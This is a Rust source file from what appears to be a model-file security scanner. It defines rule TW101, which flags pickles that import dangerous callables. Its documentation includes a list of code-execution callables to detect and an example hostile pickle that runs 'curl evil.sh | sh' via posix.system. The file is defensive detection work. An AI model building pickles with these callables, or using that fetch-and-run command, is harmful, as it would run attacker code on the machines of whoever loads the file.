//! TW101 `dangerous-callable`: The pickle imports a callable that runs code, reads or writes files, opens sockets or loads another pickle.
use tw_diagnostics::{Finding, Location, RuleDoc, RuleMeta, Severity};

/// Metadata and documentation of TW101.
pub const RULE: RuleMeta = RuleMeta {
    id: "TW101",
    name: "dangerous-callable",
    severity: Severity::Critical,
    section: "1, 6",
    summary: "The pickle imports a callable that runs code, reads or writes files, opens sockets or loads another pickle.",
    doc: RuleDoc {
        what: "Every global a pickle imports (GLOBAL, STACK_GLOBAL, INST, OBJ) is compared with a list of callables known to give code execution or its equivalents: `os`/`posix`/`nt` and `subprocess`, `builtins.eval`/`exec`/`compile`/`getattr`/`__import__`/`open`, `importlib`, `runpy`, `pty`, `socket`, `shutil`, `webbrowser`, `ctypes`, `operator.attrgetter`/`methodcaller`, `functools.partial`, and loaders that unpickle a nested payload such as `torch.storage._load_from_bytes`, `pickle.loads`, `numpy.load` or `joblib.load`. Private aliases (`_operator`, `__builtin__`, `posix`) count the same.",
        why: "Unpickling calls these objects while the file is read: `pickle.load`, `torch.load(weights_only=False)`, `joblib.load` or `numpy.load(allow_pickle=True)` run the payload before any of your code sees the data. This is the attack behind most malicious models on public hubs. torch's weights-only loader refuses them, but torch before 2.6 could still be reached through TorchScript (CVE-2025-32434).",
        example: "A `data.pkl` inside a `.pt` file containing `GLOBAL 'posix system'`, the string `'curl evil.sh | sh'` and `REDUCE`.",
        fix: "Do not load the file. Obtain the model from its original publisher, or ask for a safetensors copy. If you produced the file yourself, re-save only tensors (`torch.save(model.state_dict(), path)`), then check it again with `torchward scan`.",
        references: &["CVE-2025-32434", "https://github.com/pytorch/pytorch/security/advisories/GHSA-53q9-r3pm-6pq6", "Python docs: pickle — Restricting globals", "arXiv 2508.19774, The Art of Hide and Seek"],
    },
};

/// A finding for an import of `module.name`, which `reason` explains.
pub fn finding(location: Location, module: &str, name: &str, reason: &str) -> Finding {
    Finding::new(
        &RULE,
        location,
        format!("imports {module}.{name}: {reason}"),
    )
    .with_evidence("global", format!("{module}.{name}"))
}
